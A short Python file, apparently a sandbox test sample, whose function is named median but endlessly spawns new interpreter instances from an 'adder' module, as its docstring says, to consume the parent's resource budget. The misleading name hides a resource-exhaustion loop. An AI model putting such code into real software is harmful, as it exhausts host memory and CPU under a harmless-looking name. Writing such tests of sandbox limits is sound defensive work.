"""Makes interpreters of its own, without end: they live on its budget."""

import adder


def median(numbers):
    rooms = []
    while True:
        rooms.append(adder.Interp())
